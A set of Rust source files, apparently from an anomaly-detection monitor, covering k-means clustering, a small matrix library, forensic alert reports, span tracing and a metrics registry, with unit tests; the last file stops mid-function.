            let mut best_d = f64::INFINITY;
            for c in 0..k {
                let d = dist2(row, centroids.row(c));
                if d < best_d {
                    best_d = d;
                    best = c;
                }
            }
            if assignment[r] != best {
                assignment[r] = best;
                changed = true;
            }
        }
        if !changed && iterations > 1 {
            break;
        }
        // Update.
        let mut sums = Matrix::zeros(k, data.cols());
        let mut counts = vec![0usize; k];
        for r in 0..n {
            let c = assignment[r];
            counts[c] += 1;
            for (j, v) in data.row(r).iter().enumerate() {
                sums[(c, j)] += v;
            }
        }
        for c in 0..k {
            if counts[c] == 0 {
                // Re-seed an empty cluster at the farthest point.
                let far = farthest_point(data, &centroids, &mut rng);
                for j in 0..data.cols() {
                    sums[(c, j)] = data[(far, j)];
                }
                counts[c] = 1;
            }
            for j in 0..data.cols() {
                centroids[(c, j)] = sums[(c, j)] / counts[c] as f64;
            }
        }
    }

    let inertia = (0..n)
        .map(|r| dist2(data.row(r), centroids.row(assignment[r])))
        .sum();
    KMeans {
        centroids,
        assignment,
        inertia,
        iterations,
    }
}

fn plus_plus_seed(data: &Matrix, k: usize, rng: &mut StdRng) -> Matrix {
    let n = data.rows();
    let mut chosen: Vec<usize> = vec![rng.gen_range(0..n)];
    while chosen.len() < k {
        // Distance to nearest chosen centroid per point.
        let d2: Vec<f64> = (0..n)
            .map(|r| {
                chosen
                    .iter()
                    .map(|&c| dist2(data.row(r), data.row(c)))
                    .fold(f64::INFINITY, f64::min)
            })
            .collect();
        let total: f64 = d2.iter().sum();
        let next = if total <= 0.0 {
            rng.gen_range(0..n)
        } else {
            let mut x = rng.gen_range(0.0..total);
            let mut pick = n - 1;
            for (r, &d) in d2.iter().enumerate() {
                if x < d {
                    pick = r;
                    break;
                }
                x -= d;
            }
            pick
        };
        chosen.push(next);
    }
    let rows: Vec<Vec<f64>> = chosen.iter().map(|&r| data.row(r).to_vec()).collect();
    Matrix::from_rows(&rows)
}

fn farthest_point(data: &Matrix, centroids: &Matrix, rng: &mut StdRng) -> usize {
    let mut best = rng.gen_range(0..data.rows());
    let mut best_d = -1.0f64;
    for r in 0..data.rows() {
        let d = (0..centroids.rows())
            .map(|c| dist2(data.row(r), centroids.row(c)))
            .fold(f64::INFINITY, f64::min);
        if d > best_d {
            best_d = d;
            best = r;
        }
    }
    best
}

#[cfg(test)]
mod tests {
    use super::*;

    fn two_blobs() -> Matrix {
        let mut rows = Vec::new();
        for i in 0..20 {
            let j = i as f64 * 0.01;
            rows.push(vec![0.0 + j, 0.0 - j]);
            rows.push(vec![10.0 - j, 10.0 + j]);
        }
        Matrix::from_rows(&rows)
    }

    #[test]
    fn separates_two_blobs() {
        let data = two_blobs();
        let km = kmeans(&data, 2, 42, 100);
        assert_eq!(km.k(), 2);
        // All even rows (blob A) share a cluster; odd rows the other.
        let a = km.assignment[0];
        for r in (0..data.rows()).step_by(2) {
            assert_eq!(km.assignment[r], a);
        }
        for r in (1..data.rows()).step_by(2) {
            assert_ne!(km.assignment[r], a);
        }
    }

    #[test]
    fn deterministic_per_seed() {
        let data = two_blobs();
        let a = kmeans(&data, 3, 7, 100);
        let b = kmeans(&data, 3, 7, 100);
        assert_eq!(a.assignment, b.assignment);
    }

    #[test]
    fn k_clamped_to_rows() {
        let data = Matrix::from_rows(&[vec![1.0], vec![2.0]]);
        let km = kmeans(&data, 10, 1, 50);
        assert!(km.k() <= 2);
    }

    #[test]
    fn clusters_partition_rows() {
        let data = two_blobs();
        let km = kmeans(&data, 4, 3, 100);
        let total: usize = km.clusters().iter().map(Vec::len).sum();
        assert_eq!(total, data.rows());
    }

    #[test]
    fn singleton_input() {
        let data = Matrix::from_rows(&[vec![5.0, 5.0]]);
        let km = kmeans(&data, 3, 1, 10);
        assert_eq!(km.assignment, vec![0]);
        assert!(km.inertia < 1e-12);
    }

    #[test]
    fn more_clusters_never_increase_inertia() {
        let data = two_blobs();
        let k2 = kmeans(&data, 2, 5, 200).inertia;
        let k8 = kmeans(&data, 8, 5, 200).inertia;
        assert!(k8 <= k2 + 1e-9, "k8 {k8} vs k2 {k2}");
    }
}
