//! A minimal dense row-major matrix — just enough linear algebra for PCA
//! and k-means, implemented here so the reproduction has no external
//! numerics dependency.

use std::fmt;
use std::ops::{Index, IndexMut};

/// Dense row-major `rows × cols` matrix of `f64`.
#[derive(Debug, Clone, PartialEq)]
pub struct Matrix {
    rows: usize,
    cols: usize,
    data: Vec<f64>,
}

impl Matrix {
    /// Zero matrix.
    pub fn zeros(rows: usize, cols: usize) -> Matrix {
        Matrix {
            rows,
            cols,
            data: vec![0.0; rows * cols],
        }
    }

    /// Identity matrix.
    pub fn identity(n: usize) -> Matrix {
        let mut m = Matrix::zeros(n, n);
        for i in 0..n {
            m[(i, i)] = 1.0;
        }
        m
    }

    /// Builds a matrix from row vectors; all rows must have equal length.
    pub fn from_rows(rows: &[Vec<f64>]) -> Matrix {
        let r = rows.len();
        let c = rows.first().map_or(0, Vec::len);
        assert!(rows.iter().all(|row| row.len() == c), "ragged rows");
        Matrix {
            rows: r,
            cols: c,
            data: rows.iter().flatten().copied().collect(),
        }
    }

    /// Number of rows.
    pub fn rows(&self) -> usize {
        self.rows
    }

    /// Number of columns.
    pub fn cols(&self) -> usize {
        self.cols
    }

    /// A row as a slice.
    pub fn row(&self, r: usize) -> &[f64] {
        &self.data[r * self.cols..(r + 1) * self.cols]
    }

    /// Mutable row access.
    pub fn row_mut(&mut self, r: usize) -> &mut [f64] {
        &mut self.data[r * self.cols..(r + 1) * self.cols]
    }

    /// Matrix transpose.
    pub fn transpose(&self) -> Matrix {
        let mut t = Matrix::zeros(self.cols, self.rows);
        for i in 0..self.rows {
            for j in 0..self.cols {
                t[(j, i)] = self[(i, j)];
            }
        }
        t
    }

    /// Matrix product.
    pub fn matmul(&self, other: &Matrix) -> Matrix {
        assert_eq!(self.cols, other.rows, "dimension mismatch");
        let mut out = Matrix::zeros(self.rows, other.cols);
        for i in 0..self.rows {
            for k in 0..self.cols {
                let aik = self[(i, k)];
                if aik == 0.0 {
                    continue;
                }
                for j in 0..other.cols {
                    out[(i, j)] += aik * other[(k, j)];
                }
            }
        }
        out
    }

    /// Column means.
    pub fn column_means(&self) -> Vec<f64> {
        let mut means = vec![0.0; self.cols];
        if self.rows == 0 {
            return means;
        }
        for i in 0..self.rows {
            for (j, m) in means.iter_mut().enumerate() {
                *m += self[(i, j)];
            }
        }
        for m in &mut means {
            *m /= self.rows as f64;
        }
        means
    }

    /// Sample covariance matrix of the rows (divides by `n-1`; by `1` when
    /// a single row).
    pub fn covariance(&self) -> Matrix {
        let means = self.column_means();
        let denom = if self.rows > 1 {
            (self.rows - 1) as f64
        } else {
            1.0
        };
        let mut cov = Matrix::zeros(self.cols, self.cols);
        for r in 0..self.rows {
            for i in 0..self.cols {
                let di = self[(r, i)] - means[i];
                if di == 0.0 {
                    continue;
                }
                for j in i..self.cols {
                    let dj = self[(r, j)] - means[j];
                    cov[(i, j)] += di * dj;
                }
            }
        }
        for i in 0..self.cols {
            for j in i..self.cols {
                cov[(i, j)] /= denom;
                cov[(j, i)] = cov[(i, j)];
            }
        }
        cov
    }

    /// Maximum absolute off-diagonal element's position (for Jacobi).
    pub(crate) fn max_off_diagonal(&self) -> Option<(usize, usize, f64)> {
        let mut best: Option<(usize, usize, f64)> = None;
        for i in 0..self.rows {
            for j in (i + 1)..self.cols {
                let v = self[(i, j)].abs();
                if best.is_none_or(|(_, _, b)| v > b) {
                    best = Some((i, j, v));
                }
            }
        }
        best
    }
}

impl Index<(usize, usize)> for Matrix {
    type Output = f64;
    fn index(&self, (r, c): (usize, usize)) -> &f64 {
        &self.data[r * self.cols + c]
    }
}

impl IndexMut<(usize, usize)> for Matrix {
    fn index_mut(&mut self, (r, c): (usize, usize)) -> &mut f64 {
        &mut self.data[r * self.cols + c]
    }
}

impl fmt::Display for Matrix {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for i in 0..self.rows {
            for j in 0..self.cols {
                write!(f, "{:>10.4}", self[(i, j)])?;
            }
            writeln!(f)?;
        }
        Ok(())
    }
}

/// Squared Euclidean distance between two equal-length vectors.
pub fn dist2(a: &[f64], b: &[f64]) -> f64 {
    a.iter().zip(b).map(|(x, y)| (x - y) * (x - y)).sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn matmul_identity() {
        let m = Matrix::from_rows(&[vec![1.0, 2.0], vec![3.0, 4.0]]);
        let i = Matrix::identity(2);
        assert_eq!(m.matmul(&i), m);
        assert_eq!(i.matmul(&m), m);
    }

    #[test]
    fn transpose_roundtrip() {
        let m = Matrix::from_rows(&[vec![1.0, 2.0, 3.0], vec![4.0, 5.0, 6.0]]);
        assert_eq!(m.transpose().transpose(), m);
        assert_eq!(m.transpose().rows(), 3);
    }

    #[test]
    fn covariance_of_perfectly_correlated_columns() {
        let m = Matrix::from_rows(&[vec![1.0, 2.0], vec![2.0, 4.0], vec![3.0, 6.0]]);
        let cov = m.covariance();
        // var(x)=1, var(y)=4, cov=2.
        assert!((cov[(0, 0)] - 1.0).abs() < 1e-12);
        assert!((cov[(1, 1)] - 4.0).abs() < 1e-12);
        assert!((cov[(0, 1)] - 2.0).abs() < 1e-12);
        assert_eq!(cov[(0, 1)], cov[(1, 0)]);
    }

    #[test]
    fn dist2_basic() {
        assert_eq!(dist2(&[0.0, 0.0], &[3.0, 4.0]), 25.0);
    }
}
