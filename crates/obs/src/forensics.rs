//! Forensic evidence attached to alerts: *why* a window scored below the
//! profile threshold.
//!
//! An alert alone (`flag + log-likelihood`) tells a security officer that
//! a session deviated, not *where*. The scaled forward pass already
//! factors a window's score into per-observation terms —
//! `log P(w | λ) = Σ_t ln P(o_t | o_0..o_{t-1}, λ)` — so the detector can
//! name the exact call transitions that drove the deficit without a
//! second scoring model. A [`ForensicReport`] packages that attribution
//! together with the session's flight-recorder tail (the recent
//! window-score series) and is attached to the alert's
//! [`crate::AuditRecord`] only when a session actually alarms, keeping
//! the benign path allocation-free.

use serde::{Deserialize, Serialize};

/// One window in the session flight recorder: the score series a session
/// carried into its alert, oldest first.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct WindowTrace {
    /// Window index within the session, in scoring order (0-based).
    pub index: u64,
    /// The window's log-likelihood as the detector scored it.
    pub log_likelihood: f64,
    /// The profile threshold in force for this window.
    pub threshold: f64,
    /// `log_likelihood - threshold`: negative means below threshold.
    pub delta: f64,
    /// The window's flag (`NORMAL`, `ANOMALOUS`, `DATA LEAK`,
    /// `OUT OF CONTEXT`).
    pub flag: String,
}

/// One ranked step of an alerted window's score attribution: an observed
/// call bigram and how much probability the profile gave it.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct DeviantTransition {
    /// Position of the observation within the alerted window (0-based).
    pub step: usize,
    /// The observed call at this step.
    pub call: String,
    /// The preceding call in the window; `None` for the first step, whose
    /// factor is anchored on the profile's initial distribution π.
    pub from: Option<String>,
    /// `ln P(o_t | o_0..o_{t-1}, λ)` — this step's exact factor of the
    /// window's log-likelihood, from the same forward pass that scored it.
    pub log_prob: f64,
    /// `log_prob - threshold / window_len`: this step's contribution
    /// relative to an even per-step share of the threshold. Negative means
    /// the step pushed the window toward (or past) the alarm line.
    pub deficit: f64,
}

/// Forensic evidence for one alarming window, attached to its
/// [`crate::AuditRecord`] when the session's flight recorder is enabled.
///
/// Reports are pure functions of the session's event stream and pinned
/// profile epoch, so — like verdicts and audit sequence numbers — they are
/// bit-identical at any worker thread count.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ForensicReport {
    /// Scoring mode of the session (`exact_windows` or `incremental`).
    pub mode: String,
    /// The alarming window's index within the session (0-based).
    pub window_index: u64,
    /// The window's log-likelihood on the attribution basis: the
    /// π-anchored forward pass over the window's own calls. In
    /// `exact_windows` mode this is bit-identical to the alert's score;
    /// in `incremental` mode the alert's score is conditioned on session
    /// history and may differ (both are recorded).
    pub attributed_log_likelihood: f64,
    /// The most deviant steps of the alerted window, worst (lowest
    /// `log_prob`) first; ties break on step index. Non-empty for every
    /// alarmed window of a non-empty trace.
    pub top_deviant: Vec<DeviantTransition>,
    /// The flight recorder's bounded tail of recent window scores
    /// (including the alerted window itself), oldest first.
    pub recent_windows: Vec<WindowTrace>,
}

impl ForensicReport {
    /// The alerted window's delta-vs-threshold, if the flight recorder
    /// captured it (it always captures the alerting window itself).
    pub fn alert_delta(&self) -> Option<f64> {
        self.recent_windows
            .iter()
            .find(|w| w.index == self.window_index)
            .map(|w| w.delta)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> ForensicReport {
        ForensicReport {
            mode: "exact_windows".into(),
            window_index: 4,
            attributed_log_likelihood: -9.25,
            top_deviant: vec![
                DeviantTransition {
                    step: 2,
                    call: "pread_Q7".into(),
                    from: Some("memcpy".into()),
                    log_prob: -6.5,
                    deficit: -4.0,
                },
                DeviantTransition {
                    step: 0,
                    call: "memcpy".into(),
                    from: None,
                    log_prob: -1.5,
                    deficit: 1.0,
                },
            ],
            recent_windows: vec![
                WindowTrace {
                    index: 3,
                    log_likelihood: -2.0,
                    threshold: -7.5,
                    delta: 5.5,
                    flag: "NORMAL".into(),
                },
                WindowTrace {
                    index: 4,
                    log_likelihood: -9.25,
                    threshold: -7.5,
                    delta: -1.75,
                    flag: "ANOMALOUS".into(),
                },
            ],
        }
    }

    #[test]
    fn report_round_trips_through_json() {
        let report = sample();
        let json = serde_json::to_string(&report).unwrap();
        let back: ForensicReport = serde_json::from_str(&json).unwrap();
        assert_eq!(back, report);
    }

    #[test]
    fn alert_delta_reads_the_alerting_window() {
        let report = sample();
        assert_eq!(report.alert_delta(), Some(-1.75));
        let mut missing = report;
        missing.recent_windows.clear();
        assert_eq!(missing.alert_delta(), None);
    }
}
