//! Lightweight span/event tracing facade.
//!
//! A [`Tracer`] couples a metrics [`Registry`] with a pluggable
//! [`SpanSink`]. [`Span::enter`] (or [`Tracer::enter`]) opens a stage;
//! when the guard drops, the stage's wall-clock duration lands in the
//! registry histogram `span.<path>` and the sink receives a
//! [`SpanEvent`]. Spans nest through [`Span::child`], which extends the
//! path (`detect/score`) and the depth.
//!
//! Sinks: [`NullSpanSink`] (production default — histograms only),
//! [`RingSink`] (bounded in-memory buffer for tests), [`StderrSink`]
//! (indented pretty-printer for interactive debugging).

use crate::registry::{Histogram, Registry};
use std::collections::VecDeque;
use std::sync::{Arc, Mutex};
use std::time::Instant;

/// End-to-end trace identity carried by pipeline spans: which
/// application, session, profile epoch, and ingest batch a stage's work
/// belonged to. The monitor runtime stamps this on its
/// ingest → flush → score → audit spans so a single session's path
/// through the pipeline can be reassembled from the span stream.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct SpanContext {
    /// Application id (empty when the stage is not app-specific).
    pub app: String,
    /// Session id (empty for batch-level stages).
    pub session: String,
    /// Profile epoch the session is pinned to (0 when not applicable).
    pub epoch: u64,
    /// Monotonic flush-batch id assigned by the runtime's serial clock.
    pub batch: u64,
    /// Shard index of the runtime that ran the stage (0 for an unsharded
    /// monitor), so per-stage histograms can be filtered per shard.
    pub shard: u32,
}

/// One closed span, as delivered to a [`SpanSink`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SpanEvent {
    /// `/`-joined stage path, e.g. `detect/score`.
    pub path: String,
    /// Wall-clock duration in nanoseconds.
    pub nanos: u64,
    /// Nesting depth (0 for root spans).
    pub depth: usize,
    /// Trace identity, when the span was opened with
    /// [`Tracer::enter_with`] (children inherit it).
    pub context: Option<SpanContext>,
}

/// Receives closed spans.
pub trait SpanSink: Send + Sync {
    /// Called once per span, when the guard drops.
    fn on_close(&self, event: &SpanEvent);
}

/// Discards every span (durations still reach the registry).
#[derive(Debug, Default)]
pub struct NullSpanSink;

impl SpanSink for NullSpanSink {
    fn on_close(&self, _event: &SpanEvent) {}
}

/// Keeps the last `capacity` spans in memory — the deterministic test
/// sink.
#[derive(Debug)]
pub struct RingSink {
    capacity: usize,
    events: Mutex<VecDeque<SpanEvent>>,
}

impl RingSink {
    /// A ring holding at most `capacity` events (oldest evicted first).
    pub fn new(capacity: usize) -> RingSink {
        RingSink {
            capacity: capacity.max(1),
            events: Mutex::new(VecDeque::new()),
        }
    }

    /// The retained events, oldest first.
    pub fn events(&self) -> Vec<SpanEvent> {
        self.events
            .lock()
            .expect("ring sink poisoned")
            .iter()
            .cloned()
            .collect()
    }

    /// Number of retained events.
    pub fn len(&self) -> usize {
        self.events.lock().expect("ring sink poisoned").len()
    }

    /// True when no span has closed yet.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

impl SpanSink for RingSink {
    fn on_close(&self, event: &SpanEvent) {
        let mut events = self.events.lock().expect("ring sink poisoned");
        if events.len() == self.capacity {
            events.pop_front();
        }
        events.push_back(event.clone());
    }
}

/// Pretty-prints closed spans to stderr, indented by depth.
#[derive(Debug, Default)]
pub struct StderrSink;

impl SpanSink for StderrSink {
    fn on_close(&self, event: &SpanEvent) {
        let indent = "  ".repeat(event.depth);
        let micros = event.nanos as f64 / 1e3;
        eprintln!("{indent}[span] {} {micros:.1}µs", event.path);
    }
}

/// Span factory: a registry for durations plus a sink for events.
#[derive(Clone)]
pub struct Tracer {
    registry: Registry,
    sink: Arc<dyn SpanSink>,
    enabled: bool,
}

impl std::fmt::Debug for Tracer {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Tracer")
            .field("enabled", &self.enabled)
            .finish()
    }
}

impl Tracer {
    /// A tracer recording into `registry` and reporting to `sink`.
    pub fn new(registry: Registry, sink: Arc<dyn SpanSink>) -> Tracer {
        Tracer {
            registry,
            sink,
            enabled: true,
        }
    }

    /// A tracer with histograms only (null sink).
    pub fn with_registry(registry: Registry) -> Tracer {
        Tracer::new(registry, Arc::new(NullSpanSink))
    }

    /// The inert tracer: spans cost one branch and never read the clock.
    pub fn disabled() -> Tracer {
        Tracer {
            registry: Registry::disabled(),
            sink: Arc::new(NullSpanSink),
            enabled: false,
        }
    }

    /// True unless constructed with [`Tracer::disabled`].
    pub fn is_enabled(&self) -> bool {
        self.enabled
    }

    /// The registry spans record into.
    pub fn registry(&self) -> &Registry {
        &self.registry
    }

    /// Opens a root span for `stage`.
    pub fn enter(&self, stage: &str) -> Span<'_> {
        Span::open(self, stage.to_string(), 0, None)
    }

    /// Opens a root span for `stage` carrying a trace identity. The
    /// context rides the closed [`SpanEvent`] and is inherited by
    /// [`Span::child`] spans.
    pub fn enter_with(&self, stage: &str, context: SpanContext) -> Span<'_> {
        Span::open(self, stage.to_string(), 0, Some(context))
    }
}

/// An open stage; records on drop.
#[derive(Debug)]
pub struct Span<'t> {
    tracer: &'t Tracer,
    path: String,
    depth: usize,
    start: Option<Instant>,
    histogram: Histogram,
    context: Option<SpanContext>,
}

impl<'t> Span<'t> {
    /// Opens a root span for `stage` — the free-function spelling of
    /// [`Tracer::enter`].
    pub fn enter(tracer: &'t Tracer, stage: &str) -> Span<'t> {
        tracer.enter(stage)
    }

    fn open(
        tracer: &'t Tracer,
        path: String,
        depth: usize,
        context: Option<SpanContext>,
    ) -> Span<'t> {
        let (start, histogram) = if tracer.enabled {
            let histogram = tracer.registry.histogram(&format!("span.{path}"));
            (Some(Instant::now()), histogram)
        } else {
            (None, Histogram::noop())
        };
        Span {
            tracer,
            path,
            depth,
            start,
            histogram,
            context,
        }
    }

    /// Opens a nested span: path `parent/stage`, depth + 1, inheriting the
    /// parent's trace context.
    pub fn child(&self, stage: &str) -> Span<'t> {
        Span::open(
            self.tracer,
            format!("{}/{stage}", self.path),
            self.depth + 1,
            self.context.clone(),
        )
    }

    /// The span's trace identity, if one was attached at open.
    pub fn context(&self) -> Option<&SpanContext> {
        self.context.as_ref()
    }

    /// The span's `/`-joined path.
    pub fn path(&self) -> &str {
        &self.path
    }

    /// Nanoseconds since the span opened (0 when the tracer is disabled).
    pub fn elapsed_nanos(&self) -> u64 {
        self.start.map_or(0, |s| {
            u64::try_from(s.elapsed().as_nanos()).unwrap_or(u64::MAX)
        })
    }
}

impl Drop for Span<'_> {
    fn drop(&mut self) {
        if let Some(start) = self.start {
            let nanos = u64::try_from(start.elapsed().as_nanos()).unwrap_or(u64::MAX);
            self.histogram.record(nanos);
            self.tracer.sink.on_close(&SpanEvent {
                path: std::mem::take(&mut self.path),
                nanos,
                depth: self.depth,
                context: self.context.take(),
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn span_records_into_histogram_and_sink() {
        let registry = Registry::new();
        let ring = Arc::new(RingSink::new(8));
        let tracer = Tracer::new(registry.clone(), ring.clone() as Arc<dyn SpanSink>);
        {
            let _span = tracer.enter("score");
        }
        assert_eq!(registry.histogram("span.score").count(), 1);
        let events = ring.events();
        assert_eq!(events.len(), 1);
        assert_eq!(events[0].path, "score");
        assert_eq!(events[0].depth, 0);
    }

    #[test]
    fn nesting_extends_path_and_depth() {
        let registry = Registry::new();
        let ring = Arc::new(RingSink::new(8));
        let tracer = Tracer::new(registry.clone(), ring.clone() as Arc<dyn SpanSink>);
        {
            let outer = tracer.enter("detect");
            {
                let _inner = outer.child("score");
            }
        }
        // Children close before parents.
        let events = ring.events();
        assert_eq!(events.len(), 2);
        assert_eq!(events[0].path, "detect/score");
        assert_eq!(events[0].depth, 1);
        assert_eq!(events[1].path, "detect");
        assert_eq!(events[1].depth, 0);
        assert_eq!(registry.histogram("span.detect/score").count(), 1);
    }

    #[test]
    fn disabled_tracer_is_inert() {
        let tracer = Tracer::disabled();
        assert!(!tracer.is_enabled());
        let span = tracer.enter("anything");
        assert_eq!(span.elapsed_nanos(), 0);
        drop(span);
        assert_eq!(tracer.registry().snapshot(), Default::default());
    }

    #[test]
    fn ring_sink_evicts_oldest() {
        let ring = RingSink::new(2);
        for i in 0..4 {
            ring.on_close(&SpanEvent {
                path: format!("s{i}"),
                nanos: i,
                depth: 0,
                context: None,
            });
        }
        let events = ring.events();
        assert_eq!(events.len(), 2);
        assert_eq!(events[0].path, "s2");
        assert_eq!(events[1].path, "s3");
    }

    #[test]
    fn context_rides_the_event_and_is_inherited_by_children() {
        let registry = Registry::new();
        let ring = Arc::new(RingSink::new(8));
        let tracer = Tracer::new(registry, ring.clone() as Arc<dyn SpanSink>);
        let ctx = SpanContext {
            app: "hospital".into(),
            session: "s-17".into(),
            epoch: 2,
            batch: 41,
            shard: 3,
        };
        {
            let outer = tracer.enter_with("flush", ctx.clone());
            assert_eq!(outer.context(), Some(&ctx));
            {
                let _inner = outer.child("score");
            }
        }
        let events = ring.events();
        assert_eq!(events.len(), 2);
        assert_eq!(events[0].path, "flush/score");
        assert_eq!(events[0].context.as_ref(), Some(&ctx));
        assert_eq!(events[1].context.as_ref(), Some(&ctx));
        // Plain enter stays context-free.
        {
            let _span = tracer.enter("ingest");
        }
        assert_eq!(ring.events().last().unwrap().context, None);
    }

    #[test]
    fn span_enter_free_function_matches_tracer_enter() {
        let registry = Registry::new();
        let tracer = Tracer::with_registry(registry.clone());
        {
            let _span = Span::enter(&tracer, "stage");
        }
        assert_eq!(registry.histogram("span.stage").count(), 1);
    }
}
