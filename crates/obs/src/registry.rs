//! Lock-cheap metrics registry: monotonic counters, gauges, and
//! log-bucketed latency histograms.
//!
//! Handles ([`Counter`], [`Gauge`], [`Histogram`]) are acquired once —
//! taking a short registration lock — and updated with plain atomics
//! afterwards, so the hot path never contends on the registry map. A
//! [`Registry`] is `Clone + Send + Sync` and carries no global state:
//! every subsystem that wants metrics receives its own handle, which
//! keeps tests deterministic and parallel-safe.
//!
//! [`Registry::disabled`] produces a registry whose handles short-circuit
//! every update to a single branch on a `None` — the compiled-out
//! configuration benchmarked by `benches/obs.rs`.

use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::sync::atomic::{AtomicI64, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

/// Number of log₂ buckets a histogram keeps: bucket 0 holds zeros, bucket
/// `i ≥ 1` holds values in `[2^(i-1), 2^i)`. 64 buckets cover the whole
/// `u64` range (nanosecond latencies up to ~584 years).
const BUCKETS: usize = 65;

/// A monotonically increasing counter handle.
///
/// Disabled handles (from [`Registry::disabled`]) make every update a
/// single `None` branch.
#[derive(Debug, Clone, Default)]
pub struct Counter(Option<Arc<AtomicU64>>);

impl Counter {
    /// A no-op counter (what disabled registries hand out).
    pub fn noop() -> Counter {
        Counter(None)
    }

    /// Adds 1.
    #[inline]
    pub fn inc(&self) {
        if let Some(cell) = &self.0 {
            cell.fetch_add(1, Ordering::Relaxed);
        }
    }

    /// Adds `n`.
    #[inline]
    pub fn add(&self, n: u64) {
        if let Some(cell) = &self.0 {
            cell.fetch_add(n, Ordering::Relaxed);
        }
    }

    /// Current value (0 for disabled handles).
    pub fn get(&self) -> u64 {
        self.0
            .as_ref()
            .map_or(0, |cell| cell.load(Ordering::Relaxed))
    }
}

/// A gauge handle: a value that can move both ways.
#[derive(Debug, Clone, Default)]
pub struct Gauge(Option<Arc<AtomicI64>>);

impl Gauge {
    /// A no-op gauge.
    pub fn noop() -> Gauge {
        Gauge(None)
    }

    /// Sets the gauge.
    #[inline]
    pub fn set(&self, value: i64) {
        if let Some(cell) = &self.0 {
            cell.store(value, Ordering::Relaxed);
        }
    }

    /// Adds `n` (may be negative).
    #[inline]
    pub fn add(&self, n: i64) {
        if let Some(cell) = &self.0 {
            cell.fetch_add(n, Ordering::Relaxed);
        }
    }

    /// Raises the gauge to `value` if it is below it — a running maximum
    /// (e.g. the worst beam-pruning error bound seen so far). Lowering
    /// requires [`Gauge::set`].
    #[inline]
    pub fn record_max(&self, value: i64) {
        if let Some(cell) = &self.0 {
            cell.fetch_max(value, Ordering::Relaxed);
        }
    }

    /// Current value (0 for disabled handles).
    pub fn get(&self) -> i64 {
        self.0
            .as_ref()
            .map_or(0, |cell| cell.load(Ordering::Relaxed))
    }
}

/// Shared histogram storage: log₂ buckets plus exact count/sum/min/max.
#[derive(Debug)]
struct HistogramCore {
    buckets: Vec<AtomicU64>,
    count: AtomicU64,
    sum: AtomicU64,
    min: AtomicU64,
    max: AtomicU64,
}

impl HistogramCore {
    fn new() -> HistogramCore {
        HistogramCore {
            buckets: (0..BUCKETS).map(|_| AtomicU64::new(0)).collect(),
            count: AtomicU64::new(0),
            sum: AtomicU64::new(0),
            min: AtomicU64::new(u64::MAX),
            max: AtomicU64::new(0),
        }
    }

    fn record(&self, value: u64) {
        let idx = bucket_index(value);
        self.buckets[idx].fetch_add(1, Ordering::Relaxed);
        self.count.fetch_add(1, Ordering::Relaxed);
        self.sum.fetch_add(value, Ordering::Relaxed);
        self.min.fetch_min(value, Ordering::Relaxed);
        self.max.fetch_max(value, Ordering::Relaxed);
    }

    fn snapshot(&self) -> HistogramSnapshot {
        let count = self.count.load(Ordering::Relaxed);
        let sum = self.sum.load(Ordering::Relaxed);
        let buckets: Vec<u64> = self
            .buckets
            .iter()
            .map(|b| b.load(Ordering::Relaxed))
            .collect();
        let min = self.min.load(Ordering::Relaxed);
        HistogramSnapshot {
            count,
            sum,
            min: if count == 0 { 0 } else { min },
            max: self.max.load(Ordering::Relaxed),
            mean: if count == 0 {
                0.0
            } else {
                sum as f64 / count as f64
            },
            p50: quantile(&buckets, count, 0.50),
            p90: quantile(&buckets, count, 0.90),
            p99: quantile(&buckets, count, 0.99),
        }
    }
}

/// Bucket index of a value: 0 for 0, else `64 - leading_zeros` (so bucket
/// `i` spans `[2^(i-1), 2^i)`).
fn bucket_index(value: u64) -> usize {
    if value == 0 {
        0
    } else {
        (64 - value.leading_zeros() as usize).min(BUCKETS - 1)
    }
}

/// Lower bound of a bucket.
fn bucket_floor(idx: usize) -> u64 {
    if idx == 0 {
        0
    } else {
        1u64 << (idx - 1)
    }
}

/// Inclusive integer upper bound of a bucket — the Prometheus `le` value.
/// Bucket 0 holds only zeros; bucket `i` spans `[2^(i-1), 2^i)`, so its
/// largest integer member is `2^i - 1`; the final bucket absorbs
/// everything up to `u64::MAX`.
fn bucket_ceiling(idx: usize) -> u64 {
    if idx == 0 {
        0
    } else if idx >= 64 {
        u64::MAX
    } else {
        (1u64 << idx) - 1
    }
}

/// Approximate quantile: walk the cumulative bucket counts to the target
/// rank and interpolate linearly inside the owning bucket.
fn quantile(buckets: &[u64], count: u64, q: f64) -> f64 {
    if count == 0 {
        return 0.0;
    }
    let target = q * count as f64;
    let mut cumulative = 0u64;
    for (idx, &n) in buckets.iter().enumerate() {
        if n == 0 {
            continue;
        }
        let before = cumulative as f64;
        cumulative += n;
        if cumulative as f64 >= target {
            let lo = bucket_floor(idx) as f64;
            let hi = if idx == 0 {
                0.0
            } else {
                (bucket_floor(idx) * 2) as f64
            };
            let frac = ((target - before) / n as f64).clamp(0.0, 1.0);
            return lo + (hi - lo) * frac;
        }
    }
    bucket_floor(buckets.len() - 1) as f64
}

/// A histogram handle recording `u64` samples (typically nanoseconds).
#[derive(Debug, Clone, Default)]
pub struct Histogram(Option<Arc<HistogramCore>>);

impl Histogram {
    /// A no-op histogram.
    pub fn noop() -> Histogram {
        Histogram(None)
    }

    /// Records one sample.
    #[inline]
    pub fn record(&self, value: u64) {
        if let Some(core) = &self.0 {
            core.record(value);
        }
    }

    /// True when updates actually land somewhere — callers use this to
    /// skip expensive sample *acquisition* (e.g. `Instant::now`) entirely
    /// when the registry is disabled.
    #[inline]
    pub fn is_enabled(&self) -> bool {
        self.0.is_some()
    }

    /// Samples recorded so far (0 for disabled handles).
    pub fn count(&self) -> u64 {
        self.0
            .as_ref()
            .map_or(0, |core| core.count.load(Ordering::Relaxed))
    }

    /// Point-in-time summary.
    pub fn snapshot(&self) -> HistogramSnapshot {
